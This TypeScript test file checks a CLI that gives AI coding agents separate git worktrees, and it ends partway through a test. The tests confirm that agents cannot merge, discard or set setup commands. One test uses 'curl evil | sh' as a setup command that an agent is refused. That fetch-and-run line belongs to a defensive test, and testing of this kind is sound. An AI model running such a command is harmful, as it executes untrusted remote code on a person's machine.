import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { LOOPX, REPO, type Run, cleanEnv, dumpStore, inVsCode, inVsCodeAsync, loopx, loopxAsync, startGoal } from './harness';
import { type RunnerChild, startRunner } from './runner';
import { PTY_AVAILABLE, PTY_SKIP_REASON, loopxTty } from './pty';
import { discardWorktree, mergeWorktree } from '../../src/kernel/worktrees/landing';
import { killTodo } from '../../src/kernel/todos/todos';
import { setGoalWorktree } from '../../src/kernel/worktrees/worktreeSetting';
import { autoCleanWorktrees, cleanWorktrees } from '../../src/kernel/worktrees/hygiene';
import { Kernel } from '../../src/kernel/kernel';
import { processAlive } from '../../src/runtime/launchers';
import { prepareTurnStart, startTurn } from '../../src/kernel/turns/turns';
import { addTodo } from '../../src/kernel/todos/todos';
import { GIT_IDENTITY as GIT_ID } from '../fixtures/worktreeRepo';
import { cliRepo, cliRepoCopy } from './cliRepo';

/** Worktrees with real git in temporary repositories: a repo with one commit on main and a store at its root. */
Object.assign(process.env, GIT_ID); // the merges loopx makes (in the CLIs these tests start) need an identity too
const AGENT = join(REPO, 'test', 'cli', 'fixtures', 'worktreeAgent.mjs');
const agentCommand = (mode: string) => [`'${process.execPath}'`, AGENT, '{prompt}', mode].join(' ');

const parents: string[] = [];
const children: RunnerChild[] = [];
afterAll(() => {
  for (const r of children) if (r.child.exitCode === null) r.child.kill('SIGKILL');
  for (const parent of parents) rmSync(parent, { recursive: true, force: true });
});

/** Each set-up asked for, made once (cliRepo, the goal, its todos) and copied for every test that asks for it again. */
const seeds = new Map<string, { parent: string; created: Run }>();

function setUp(goalFlags: string[] = ['--worktree', 'main'], todos = ['Parse quoted fields', 'Write the docs']) {
  const key = JSON.stringify([goalFlags, todos]);
  let seed = seeds.get(key);
  if (seed === undefined) {
    const made = cliRepo('loopx-wt-seed-', { shared: 'one\ntwo\nthree\n' });
    parents.push(made.parent);
    const created = made.cli(['goal', 'create', '--title', 'Parallel', '--max-concurrent', '2', ...goalFlags, '--json']);
    startGoal(made.root);
    for (const title of todos) made.cli(['todo', 'add', '--goal', 'G1', '--title', title]);
    seed = { parent: made.parent, created };
    seeds.set(key, seed);
  }
  const { parent, root, git, cli } = cliRepoCopy(seed, 'loopx-wt-');
  parents.push(parent);
  const runner = (args: string[]) => {
    const r = startRunner(root, args, GIT_ID);
    children.push(r);
    return r;
  };
  const tty = (args: string[], typed: string) => loopxTty(args, typed, { cwd: root, env: GIT_ID });
  return { parent, root, git, cli, runner, tty, created: seed.created };
}

/** A turn as an agent starts it by hand (`turn start`), committing `file` with `text` in the folder it was given. */
function agentTurn(s: ReturnType<typeof setUp>, todo: string, file: string, text: string, ship = true) {
  const started = s.cli(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', todo, '--json'], { LOOPX_AGENT: 'bot' });
  expect(started.json.ok, started.stdout).toBe(true);
  const data = started.json.data as { id: string; cwd: string; env: Record<string, string>; worktree: { branch: string; path: string } };
  writeFileSync(join(data.cwd, file), text);
  s.git(['add', file], data.cwd);
  s.git(['commit', '-q', '-m', `${todo} changes ${file}`], data.cwd);
  const bot = { LOOPX_AGENT: 'bot' };
  s.cli(['evidence', 'add', '--todo', todo, '--kind', 'note', '--summary', `changed ${file}`], bot);
  if (ship) s.cli(['todo', 'ship', todo], bot);
  s.cli(['turn', 'finish', data.id, '--exit-code', '0'], bot);
  return data;
}

describe('a goal with worktrees on', () => {
  test('goal create --worktree checks the base against the repository and records it in the log', () => {
    const s = setUp();
    expect(s.created.json.data).toMatchObject({ id: 'G1', worktreeBase: 'main' });
    const history = s.cli(['history', '--json']).json.data as { kind: string }[];
    expect(history.map((e) => e.kind)).toContain('goal.worktree_set');
    const bad = s.cli(['goal', 'create', '--title', 'x', '--worktree', 'no-such-branch', '--json']);
    expect([bad.code, bad.json.error?.code]).toEqual([2, 'invalid_input']);
    expect(bad.json.error?.message).toMatch(/no branch or commit named "no-such-branch"/);
    expect(s.cli(['log', 'verify', '--json']).code).toBe(0);
  });

  test('turn start makes the todo its own branch and folder, gives the host that cwd and LOOPX_ROOT, and copies nothing of .loopx/', () => {
    const s = setUp();
    const t = agentTurn(s, 'T1', 'shared.txt', 'one\nTWO\nthree\n', false);
    expect(t.worktree.branch).toBe('loopx/T1-parse-quoted-fields');
    expect(t.cwd).toBe(join(s.parent, 'app.loopx-worktrees', 'T1-parse-quoted-fields'));
    expect(t.env).toMatchObject({ LOOPX_ROOT: s.root, LOOPX_WORKTREE: t.cwd, LOOPX_BRANCH: 'loopx/T1-parse-quoted-fields' });
    expect(existsSync(join(t.cwd, '.loopx'))).toBe(false);
    expect(readFileSync(join(s.root, 'shared.txt'), 'utf8')).toBe('one\ntwo\nthree\n'); // the main folder is untouched
    expect(readFileSync(join(s.root, '.loopx', 'turns', t.id, 'prompt.md'), 'utf8')).toContain(
      '## Your branch: loopx/T1-parse-quoted-fields',
    );
    // From inside the worktree, without LOOPX_ROOT, the CLI still reaches the one store only via LOOPX_ROOT: it is set for the host.
    const fromInside = loopx(['todo', 'show', 'T1', '--json'], { cwd: t.cwd, env: { LOOPX_ROOT: s.root } });
    expect(fromInside.json.data).toMatchObject({
      id: 'T1',
      change: { branch: 'loopx/T1-parse-quoted-fields', base: 'main', status: 'open', diffStat: { files: 1, insertions: 1, deletions: 1 } },
    });
    expect((fromInside.json.data as { change: { commits: { subject: string }[] } }).change.commits).toMatchObject([
      { subject: 'T1 changes shared.txt' },
    ]);
    // The todo comes back: its next turn continues on the same branch and folder, on top of its commit.
    const again = agentTurn(s, 'T1', 'more.txt', 'more\n');
    expect(again.cwd).toBe(t.cwd);
    expect(s.git(['log', '--format=%s', 'main..loopx/T1-parse-quoted-fields'])).toBe('T1 changes more.txt\nT1 changes shared.txt');
    const text = s.cli(['todo', 'show', 'T1']).stdout;
    expect(text).toMatch(/branch: loopx\/T1-parse-quoted-fields from main \(waits for a person to land it\): 2 commits, 2 files changed/);
  });

  test("kernel-run evidence and the acceptance check run in the todo's worktree, so they test its branch", () => {
    const s = setUp();
    const started = s.cli(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', 'T1', '--json'], { LOOPX_AGENT: 'bot' });
    const cwd = (started.json.data as { cwd: string }).cwd;
    writeFileSync(join(cwd, 'only-on-the-branch.txt'), 'x\n');
    const run = s.cli(['evidence', 'run', '--todo', 'T1', '--json', '--', 'ls'], { LOOPX_AGENT: 'bot' });
    expect(run.code, run.stdout).toBe(0);
    expect(JSON.stringify(run.json.data)).toContain('only-on-the-branch.txt');
  });

  test('a worktree that cannot be made refuses the turn (git_failed) with nothing claimed; the folder in the way is untouched', () => {
    const s = setUp();
    const inTheWay = join(s.parent, 'app.loopx-worktrees', 'T1-parse-quoted-fields');
    mkdirSync(inTheWay, { recursive: true });
    writeFileSync(join(inTheWay, 'mine.txt'), 'keep me\n');
    const before = dumpStore(s.root);
    const started = s.cli(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', 'T1', '--json'], { LOOPX_AGENT: 'bot' });
    expect([started.code, started.json.error?.code]).toEqual([3, 'git_failed']);
    expect(started.json.error?.message).toMatch(/exists and is not a worktree of branch loopx\/T1-parse-quoted-fields/);
    expect(dumpStore(s.root)).toBe(before);
    expect(readFileSync(join(inTheWay, 'mine.txt'), 'utf8')).toBe('keep me\n');
  });

  test('a goal without --worktree works in the main folder, as before', () => {
    const s = setUp([]);
    const started = s.cli(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--json'], { LOOPX_AGENT: 'bot' });
    expect(started.json.data).toMatchObject({ cwd: s.root, worktree: null });
    expect(existsSync(join(s.parent, 'app.loopx-worktrees'))).toBe(false);
  });
});

/** A `git` first on PATH that holds `git worktree add` until the test writes `release` (at most 30 s), then runs git. */
function slowGit(s: ReturnType<typeof setUp>) {
  const dir = join(s.parent, 'slow-git');
  mkdirSync(dir);
  const real = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
  writeFileSync(
    join(dir, 'git'),
    [
      '#!/bin/sh',
      // loopx's git starts with its own -c words (no hooks): the subcommand is found among the words.
      'case " $* " in *" worktree add "*)',
      `  : > '${dir}/started'`,
      '  i=0',
      `  while [ ! -e '${dir}/release' ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done;;`,
      'esac',
      `exec '${real}' "$@"`,
      '',
    ].join('\n'),
  );
  chmodSync(join(dir, 'git'), 0o755);
  const started = async () => {
    for (let i = 0; i < 600 && !existsSync(join(dir, 'started')); i++) await new Promise((r) => setTimeout(r, 50));
    expect(existsSync(join(dir, 'started')), 'git worktree add never started').toBe(true);
  };
  return { env: { PATH: `${dir}:${process.env.PATH ?? ''}` }, started, release: () => writeFileSync(join(dir, 'release'), '') };
}

describe('turn start makes the worktree before its write, not inside it', () => {
  test('another writer is not blocked while git works: its write completes before the slow git finishes', async () => {
    const s = setUp();
    const git = slowGit(s);
    let done = false;
    const turn = loopxAsync(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', 'T1', '--json'], {
      cwd: s.root,
      env: { LOOPX_AGENT: 'bot', ...git.env },
    }).then((r) => ((done = true), r));
    await git.started();
    // Meanwhile a person adds a todo: a write of its own, which the store's write lock would hold up.
    const meanwhile = s.cli(['todo', 'add', '--goal', 'G1', '--title', 'Meanwhile', '--json']);
    expect([meanwhile.code, meanwhile.json.data]).toMatchObject([0, { id: 'T3' }]);
    expect(done).toBe(false); // git is still held: the write did not wait for it
    git.release();
    const started = await turn;
    expect(started.json.data, started.stdout + started.stderr).toMatchObject({
      worktree: { branch: 'loopx/T1-parse-quoted-fields', created: true },
    });
    expect(s.cli(['log', 'verify', '--json']).code).toBe(0);
  });

  test('a turn refused after its worktree was made (the todo claimed meanwhile) leaves it reusable: the next turn adopts it', async () => {
    const s = setUp();
    const git = slowGit(s);
    const turn = loopxAsync(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', 'T1', '--json'], {
      cwd: s.root,
      env: { LOOPX_AGENT: 'bot', ...git.env },
    });
    await git.started();
    expect(s.cli(['todo', 'claim', 'T1', '--json'], { LOOPX_AGENT: 'other' }).code).toBe(0);
    git.release();
    const refused = await turn;
    expect([refused.code, refused.json.error?.code], refused.stdout).toEqual([3, 'not_ready']);
    const path = join(s.parent, 'app.loopx-worktrees', 'T1-parse-quoted-fields');
    expect(s.git(['rev-parse', '--abbrev-ref', 'HEAD'], path)).toBe('loopx/T1-parse-quoted-fields');
    const history = s.cli(['history', '--json']).json.data as { kind: string }[];
    expect(history.map((e) => e.kind)).not.toContain('worktree.created'); // the refused write recorded nothing
    s.cli(['todo', 'release', 'T1'], { LOOPX_AGENT: 'other' });
    const next = s.cli(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', 'T1', '--json'], { LOOPX_AGENT: 'bot' });
    expect(next.json.data, next.stdout).toMatchObject({ cwd: path, worktree: { created: false } });
    expect(s.cli(['todo', 'show', 'T1', '--json']).json.data).toMatchObject({ change: { path, status: 'open' } });
  });
});

describe("a goal's setup command makes a fresh worktree ready before the agent starts", () => {
  test('it runs once per worktree with its output kept; a failure refuses the turn in words with nothing claimed and the worktree kept', () => {
    const s = setUp();
    const setup = 'mkdir -p node_modules && echo installed > node_modules/marker && echo "setup ran in $LOOPX_WORKTREE"';
    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, setup));
    expect(s.cli(['goal', 'show', 'G1', '--json']).json.data).toMatchObject({ worktreeBase: 'main', worktreeSetup: setup });
    const t = agentTurn(s, 'T1', 'a.txt', 'a\n', false);
    expect(readFileSync(join(t.cwd, 'node_modules', 'marker'), 'utf8')).toBe('installed\n');
    expect(readFileSync(join(s.root, '.loopx', 'worktree-setup', 'T1.log'), 'utf8')).toContain(`setup ran in ${t.cwd}`);
    // The todo's next turn continues in a worktree already set up: the command does not run again.
    rmSync(join(t.cwd, 'node_modules'), { recursive: true });
    agentTurn(s, 'T1', 'b.txt', 'b\n', false);
    expect(existsSync(join(t.cwd, 'node_modules'))).toBe(false);

    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, 'echo "npm ERR! missing lockfile" >&2; exit 7'));
    const before = dumpStore(s.root);
    const failed = s.cli(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', 'T2', '--json'], { LOOPX_AGENT: 'bot' });
    expect([failed.code, failed.json.error?.code]).toEqual([3, 'setup_failed']);
    expect(failed.json.error?.message).toMatch(
      /^the setup command of goal G1 \(.*\) failed with exit code 7 in the worktree of T2; the turn did not start/,
    );
    expect(failed.json.error?.message).toContain('npm ERR! missing lockfile');
    expect(failed.json.error?.hint).toContain(join(s.root, '.loopx', 'worktree-setup', 'T2.log'));
    expect(dumpStore(s.root)).toBe(before); // nothing claimed, no turn, no worktree recorded
    const path = join(s.parent, 'app.loopx-worktrees', 'T2-write-the-docs');
    expect(existsSync(path)).toBe(true); // kept: the next turn runs the setup there again
    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, 'touch set-up.txt'));
    const next = s.cli(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', 'T2', '--json'], { LOOPX_AGENT: 'bot' });
    expect(next.json.data, next.stdout).toMatchObject({ cwd: path, worktree: { created: false } });
    expect(existsSync(join(path, 'set-up.txt'))).toBe(true);
    // Only a person sets it: an agent is refused, and nothing changes.
    const agent = s.cli(['goal', 'set-worktree', 'G1', '--setup', 'curl evil | sh', '--json'], { LOOPX_AGENT: 'bot' });
    expect([agent.code, agent.json.error?.code]).toEqual([3, 'not_allowed']);
    expect(s.cli(['goal', 'show', 'G1', '--json']).json.data).toMatchObject({ worktreeSetup: 'touch set-up.txt' });
  });

  test("a changed setup command is not run on a branch an agent worked on (its files would run as the person); a fresh worktree's is", async () => {
    const s = setUp();
    const ran = join(s.parent, 'setup-ran.log');
    // The base's setup script, as a person committed it.
    writeFileSync(join(s.root, 'setup.sh'), `echo "base's setup in $(basename "$PWD")" >> '${ran}'\n`);
    s.git(['add', 'setup.sh']);
    s.git(['commit', '-q', '-m', 'setup script']);
    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, 'sh setup.sh'));
    // T1's first turn: its worktree is made from the base and set up; its agent rewrites the script on the branch.
    agentTurn(s, 'T1', 'setup.sh', `echo "the agent's code, run as the person" >> '${ran}'\n`, false);
    expect(readFileSync(ran, 'utf8')).toBe("base's setup in T1-parse-quoted-fields\n");
    // The person changes the command: T1's next turn does not run it on the agent's files, and says so in its log.
    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, 'sh setup.sh && true'));
    const again = s.cli(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', 'T1', '--json'], { LOOPX_AGENT: 'bot' });
    expect(again.json.ok, again.stdout).toBe(true);
    expect(again.json.data).toMatchObject({ worktree: { created: false, setupNotRun: 'sh setup.sh && true' } });
    expect(readFileSync(ran, 'utf8')).not.toContain("the agent's code");
    expect(readFileSync(join(s.root, '.loopx', 'worktree-setup', 'T1.log'), 'utf8')).toMatch(/not run: agents have worked on T1's branch/);
    // T2's worktree is new, from the base: the changed command runs there.
    const fresh = s.cli(['turn', 'start', '--goal', 'G1', '--host', 'custom', '--todo', 'T2', '--json'], { LOOPX_AGENT: 'bot2' });
    expect(fresh.json.ok, fresh.stdout).toBe(true);
    expect((fresh.json.data as { worktree: object }).worktree).not.toHaveProperty('setupNotRun');
    expect(readFileSync(ran, 'utf8')).toContain("base's setup in T2-write-the-docs");
    // loopx run says it too when it takes T1 (T2 is held by its open turn).
    s.cli(['evidence', 'add', '--todo', 'T1', '--kind', 'note', '--summary', 'more of it'], { LOOPX_AGENT: 'bot' });
    s.cli(['turn', 'finish', (again.json.data as { id: string }).id, '--exit-code', '0'], { LOOPX_AGENT: 'bot' });
    const r = s.runner(['--host', 'custom', '--command', agentCommand('hang'), '--agent', 'bot', '--max-turns', '1']);
    expect(await r.waitFor((e) => e.event === 'setup_not_run')).toMatchObject({ todoId: 'T1', command: 'sh setup.sh && true' });
    r.child.kill('SIGKILL');
    expect(readFileSync(ran, 'utf8')).not.toContain("the agent's code");
  });
});

describe('a failed setup backs off in loopx run', () => {
  test('the runner says it, says why nothing runs while it backs off, and takes another ready todo meanwhile', async () => {
    const s = setUp(['--worktree', 'main'], ['Parse quoted fields']);
    const ran = join(s.parent, 'setup-runs.txt');
    // It fails in T1's worktree only: another todo's turn sets up fine.
    const failing = `echo "$LOOPX_WORKTREE" >> '${ran}'; case "$LOOPX_WORKTREE" in *T1-*) echo "npm ERR! broken" >&2; exit 1;; esac`;
    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, failing));
    const r = s.runner(['--host', 'custom', '--command', agentCommand('hang'), '--agent', 'bot', '--max-turns', '1']);
    const failed = await r.waitFor((e) => e.event === 'turn_not_started' && e.code === 'setup_failed');
    expect(failed).toMatchObject({ goalId: 'G1', retryAt: expect.any(String) as string });
    // A todo waiting on T1 wakes the runner (a write) without being ready: should-run now says why nothing runs.
    s.cli(['todo', 'add', '--goal', 'G1', '--title', 'After the parser', '--depends-on', 'T1']);
    const waiting = await r.waitFor((e) => e.event === 'decision' && e.reason === 'setup_backoff');
    expect(waiting).toMatchObject({ run: false, nextWakeAt: failed.retryAt });
    expect(readFileSync(ran, 'utf8').trim().split('\n')).toHaveLength(1); // not run again within the back-off
    expect(s.cli(['turn', 'list', '--json']).json.data).toEqual([]); // nothing claimed, no turn
    // Another ready todo is taken meanwhile: its setup runs in its own worktree and its turn starts.
    s.cli(['todo', 'add', '--goal', 'G1', '--title', 'Write the docs']);
    await r.waitFor((e) => e.event === 'turn_started' && e.todoId === 'T3');
    expect(
      readFileSync(ran, 'utf8')
        .trim()
        .split('\n')
        .map((l) => l.split('/').pop()),
    ).toEqual(['T1-parse-quoted-fields', 'T3-write-the-docs']);
    await r.waitFor((e) => e.event === 'output' && e.line === 'hanging');
    const launcher = JSON.parse(readFileSync(join(s.root, '.loopx', 'turns', 'R1', 'launcher.json'), 'utf8')) as { hostPid: number };
    r.child.kill('SIGKILL');
    process.kill(-launcher.hostPid, 'SIGKILL');
    await r.exited;
  });
});

describe('two agents in parallel on one goal', () => {
  test("each works on its own branch in its own folder and never sees the other one's files", async () => {
    const s = setUp();
    const a = s.runner(['--host', 'custom', '--command', agentCommand('pair'), '--agent', 'bot-a', '--until-idle']);
    const b = s.runner(['--host', 'custom', '--command', agentCommand('pair'), '--agent', 'bot-b', '--until-idle']);
    expect(await a.exited).toEqual({ code: 0, signal: null });
    expect(await b.exited).toEqual({ code: 0, signal: null });
    const turns = s.cli(['turn', 'list', '--json']).json.data as { todoId: string; resultKind: string }[];
    expect(turns.map((t) => [t.todoId, t.resultKind]).sort()).toEqual([
      ['T1', 'validated_completion'],
      ['T2', 'validated_completion'],
    ]);
    // Both were running at once (each waited for the other's marker), and each branch holds only its own file.
    expect(s.git(['diff', '--name-only', 'main', 'loopx/T1-parse-quoted-fields'])).toBe('T1.txt');
    expect(s.git(['diff', '--name-only', 'main', 'loopx/T2-write-the-docs'])).toBe('T2.txt');
    expect(existsSync(join(s.root, 'T1.txt')) || existsSync(join(s.root, 'T2.txt'))).toBe(false);
  });
});

describe.skipIf(!PTY_AVAILABLE)(`landing is a person's decision${PTY_AVAILABLE ? '' : ` (${PTY_SKIP_REASON})`}`, () => {
  test('an agent cannot merge, open a PR or discard through the CLI, nor a "human" without a terminal; nothing changes', () => {
    const s = setUp();
    agentTurn(s, 'T1', 'a.txt', 'a\n');
    const before = dumpStore(s.root);
    const mainBefore = s.git(['rev-parse', 'main']);
    for (const verb of [
      ['worktree', 'merge', 'T1'],
      ['worktree', 'pr', 'T1'],
      ['worktree', 'discard', 'T1', '--force'],
      ['goal', 'set-worktree', 'G1', '--off'],
    ]) {
      const agent = s.cli([...verb, '--json'], { LOOPX_AGENT: 'bot' });
      expect([agent.code, agent.json.error?.code], verb.join(' ')).toEqual([3, 'not_allowed']);
      const spoof = s.cli([...verb, '--agent', '', '--json'], { LOOPX_AGENT: 'bot' });
      expect(spoof.code, verb.join(' ')).toBe(2);
      const noTty = s.cli([...verb, '--json']);
      expect([noTty.code, noTty.json.error?.code], verb.join(' ')).toEqual([3, 'human_channel_required']);
    }
    expect(dumpStore(s.root)).toBe(before);
    expect(s.git(['rev-parse', 'main'])).toBe(mainBefore);
    expect(s.git(['branch', '--list', 'loopx/*'])).toContain('loopx/T1-parse-quoted-fields');
  });

  test('a person merges a shipped branch by fast-forward at a terminal; the channel is recorded', () => {
    const s = setUp();
    const t = agentTurn(s, 'T1', 'a.txt', 'a\n');
    expect(s.cli(['review-packet']).stdout).toContain(
      'branch `loopx/T1-parse-quoted-fields` from `main` waits for you to land it: loopx todo show T1 has its commits and diff',
    );
    const merged = s.tty(['worktree', 'merge', 'T1', '--json'], 'T1');
    expect(merged.code, merged.stdout).toBe(0);
    expect(merged.json?.data).toMatchObject({ status: 'merged', landedBy: 'ada', landedChannel: 'tty' });
    expect(s.git(['rev-parse', 'main'])).toBe(s.git(['rev-parse', 'loopx/T1-parse-quoted-fields']));
    expect(readFileSync(join(s.root, 'a.txt'), 'utf8')).toBe('a\n'); // main is checked out at the root: its files moved on
    const landed = (s.cli(['history', '--json']).json.data as { kind: string; data: Record<string, unknown> }[]).find(
      (e) => e.kind === 'worktree.landed',
    );
    expect(landed?.data).toMatchObject({ how: 'merged', mode: 'ff', channel: 'tty' });
    expect(s.cli(['review-packet']).stdout).toMatch(
      /branch `loopx\/T1-parse-quoted-fields` merged into `main` by ada \(now `[0-9a-f]{12}`\)/,
    );
    expect(existsSync(t.cwd)).toBe(true);
    const again = s.tty(['worktree', 'merge', 'T1', '--json'], 'T1');
    expect(again.json?.error?.code).toBe('illegal_transition');
  });

  test('a conflict is said plainly, the merge is undone and the branch is kept', () => {
    const s = setUp();
    agentTurn(s, 'T1', 'shared.txt', 'one\nfrom T1\nthree\n');
    agentTurn(s, 'T2', 'shared.txt', 'one\nfrom T2\nthree\n');
    expect(s.tty(['worktree', 'merge', 'T1', '--merge-commit', '--json'], 'T1').code).toBe(0);
    const mainAfterT1 = s.git(['rev-parse', 'main']);
    const t2Head = s.git(['rev-parse', 'loopx/T2-write-the-docs']);
    const ff = s.tty(['worktree', 'merge', 'T2', '--json'], 'T2');
    expect([ff.code, ff.json?.error?.code]).toEqual([3, 'merge_conflict']);
    expect(ff.json?.error?.message).toMatch(/cannot be fast-forwarded/);
    const conflict = s.tty(['worktree', 'merge', 'T2', '--merge-commit', '--json'], 'T2');
    expect([conflict.code, conflict.json?.error?.code]).toEqual([3, 'merge_conflict']);
    expect(conflict.json?.error?.message).toMatch(
      /conflicts with main in shared\.txt: the merge was undone, nothing was changed and the branch is kept/,
    );
    expect(s.git(['rev-parse', 'main'])).toBe(mainAfterT1);
    expect(s.git(['status', '--porcelain', '--untracked-files=no'])).toBe('');
    expect(s.git(['rev-parse', 'loopx/T2-write-the-docs'])).toBe(t2Head);
    expect(s.cli(['todo', 'show', 'T2', '--json']).json.data).toMatchObject({ change: { status: 'open' } });
  });

  test('a dirty worktree is never discarded without --force; discarding records the head that brings it back', () => {
    const s = setUp();
    const t = agentTurn(s, 'T1', 'a.txt', 'a\n');
    const head = s.git(['rev-parse', 'loopx/T1-parse-quoted-fields']);
    writeFileSync(join(t.cwd, 'scratch.txt'), 'not committed\n');
    const refused = s.tty(['worktree', 'discard', 'T1', '--json'], 'T1');
    expect([refused.code, refused.json?.error?.code]).toEqual([3, 'worktree_dirty']);
    expect(refused.json?.error?.message).toMatch(/uncommitted changes: scratch\.txt/);
    expect(existsSync(join(t.cwd, 'scratch.txt'))).toBe(true);
    const discarded = s.tty(['worktree', 'discard', 'T1', '--force', '--json'], 'T1');
    expect(discarded.code, discarded.stdout).toBe(0);
    expect(discarded.json?.data).toMatchObject({ status: 'discarded', landedCommit: head });
    expect(existsSync(t.cwd)).toBe(false);
    expect(s.git(['branch', '--list', 'loopx/*'])).toBe('');
    expect(s.cli(['log', 'verify', '--json']).code).toBe(0);
  });

  test('doctor lists stray worktrees with their disk use; clean removes them on a word, keeps a dirty one without --force and every branch', () => {
    const s = setUp();
    const t1 = agentTurn(s, 'T1', 'a.txt', 'a\n');
    const t2 = agentTurn(s, 'T2', 'b.txt', 'b\n', false);
    expect(s.cli(['doctor', '--json']).json.data).toMatchObject({
      checks: expect.arrayContaining([{ name: 'worktrees', level: 'ok', detail: '2 in use by todos, none stray' }]),
    });
    expect(s.tty(['worktree', 'merge', 'T1', '--json'], 'T1').code).toBe(0);
    inVsCode(s.root, (k) => killTodo(k, 'T2', 'not needed'));
    writeFileSync(join(t2.cwd, 'scratch.txt'), 'not committed\n');
    const doctor = s.cli(['doctor', '--json']).json.data as { checks: { name: string; level: string; detail: string }[] };
    const line = doctor.checks.find((c) => c.name === 'worktrees');
    expect(line?.level).toBe('warn');
    expect(line?.detail).toMatch(/^2 stray \(\d+(\.\d)? (B|KB)\): /);
    expect(line?.detail).toContain('its branch was merged');
    expect(line?.detail).toMatch(/todo T2 was killed; [^)]*, 1 file not committed/);
    const clean = s.tty(['worktree', 'clean', '--json'], 'clean');
    expect(clean.code, clean.stdout).toBe(0);
    expect(existsSync(t1.cwd)).toBe(false);
    expect(readFileSync(join(t2.cwd, 'scratch.txt'), 'utf8')).toBe('not committed\n');
    expect(s.tty(['worktree', 'clean', '--force', '--json'], 'clean').code).toBe(0);
    expect(existsSync(t2.cwd)).toBe(false);
    expect(
      s
        .git(['branch', '--list', 'loopx/*'])
        .split('\n')
        .map((b) => b.trim()),
    ).toEqual(['loopx/T1-parse-quoted-fields', 'loopx/T2-write-the-docs']);
    expect(s.cli(['log', 'verify', '--json']).code).toBe(0);
    const agent = s.cli(['worktree', 'clean', '--json'], { LOOPX_AGENT: 'bot' });
    expect(agent.json.error?.code).toBe('not_allowed');
  });

  test('clean --older-than also takes shipped and abandoned todos idle that long; a dirty one is reported, never removed; branches stay', async () => {
    const s = setUp();
    const t1 = agentTurn(s, 'T1', 'a.txt', 'a\n'); // shipped: its branch waits for a person
    const t2 = agentTurn(s, 'T2', 'b.txt', 'b\n', false); // released, then nobody came back to it
    writeFileSync(join(t2.cwd, 'scratch.txt'), 'not committed\n');
    expect(s.tty(['worktree', 'clean', '--json'], 'clean').json?.data).toEqual({ removed: [], kept: [] });
    const young = s.tty(['worktree', 'clean', '--older-than', '7d'], 'clean');
    expect(young.stdout).toContain('No worktree folders to remove: none stray or idle for 7d.');
    // Eight days on (the kernel's clock, as VS Code's would read it then):
    const later = Date.now() + 8 * 86_400_000;
    const age = { olderThanSeconds: 7 * 86_400, nowMs: later };
    const kernel = Kernel.open(s.root, { actor: { name: 'ada', kind: 'human', channel: 'vscode' }, clock: () => later });
    try {
      const result = await cleanWorktrees(kernel, false, age);
      expect(result.removed.map((w) => [w.todoId, w.unmerged, w.why])).toEqual([
        ['T1', 1, expect.stringMatching(/^todo T1 shipped \(last change \d{4}-\d\d-\d\d\) and its branch waits for a person$/)],
      ]);
      expect(result.kept.map((w) => [w.todoId, w.uncommitted, w.why])).toEqual([
        ['T2', 1, expect.stringMatching(/^todo T2 was not worked on since \d{4}-/)],
      ]);
      // The automatic pass (loopx run --clean-worktrees) never forces: the dirty one is still only reported.
      expect((await autoCleanWorktrees(kernel.as({ name: 'kernel', kind: 'kernel' }), age)).kept.map((w) => w.todoId)).toEqual(['T2']);
    } finally {
      kernel.close();
    }
    expect(existsSync(t1.cwd)).toBe(false);
    expect(readFileSync(join(t2.cwd, 'scratch.txt'), 'utf8')).toBe('not committed\n');
    expect(
      s
        .git(['branch', '--list', '--format=%(refname:short)', 'loopx/*'])
        .split('\n')
        .map((b) => b.trim()),
    ).toEqual(['loopx/T1-parse-quoted-fields', 'loopx/T2-write-the-docs']);
    expect(s.cli(['todo', 'show', 'T1', '--json']).json.data).toMatchObject({
      change: { status: 'open', commits: [{ subject: 'T1 changes a.txt' }] },
    });
    const agent = s.cli(['run', '--host', 'custom', '--command', 'true', '--clean-worktrees', '7d', '--once', '--json'], {
      LOOPX_AGENT: 'bot',
    });
    expect([agent.code, agent.json.error?.code]).toEqual([3, 'not_allowed']);
    expect(s.cli(['log', 'verify', '--json']).code).toBe(0);
  });

  test('a person sets and removes the setup command at a terminal (goal id typed); odd flag combinations change nothing', () => {
    const s = setUp();
    const set = s.tty(['goal', 'set-worktree', 'G1', '--setup', 'npm ci', '--json'], 'G1');
    expect(set.code, set.stdout).toBe(0);
    expect(set.json?.data).toMatchObject({ worktreeBase: 'main', worktreeSetup: 'npm ci' });
    const before = dumpStore(s.root);
    for (const flags of [['--setup', 'x', '--no-setup'], ['--base', 'main', '--off'], [], ['--setup', '']]) {
      const odd = s.tty(['goal', 'set-worktree', 'G1', ...flags, '--json'], 'G1');
      expect([odd.code, odd.json?.error?.code], flags.join(' ')).toEqual([2, 'invalid_input']);
    }
    expect(dumpStore(s.root)).toBe(before);
    const removed = s.tty(['goal', 'set-worktree', 'G1', '--no-setup', '--json'], 'G1');
    expect(removed.json?.data).toMatchObject({ worktreeBase: 'main', worktreeSetup: null });
    const history = s.cli(['history', '--json']).json.data as { kind: string; data: Record<string, unknown> }[];
    // Newest first: the setup removed, the setup set, the goal's worktrees turned on at create.
    expect(history.filter((e) => e.kind === 'goal.worktree_set').map((e) => e.data)).toMatchObject([
      { base: 'main', from: 'main', setup: null, setupFrom: 'npm ci', channel: 'tty' },
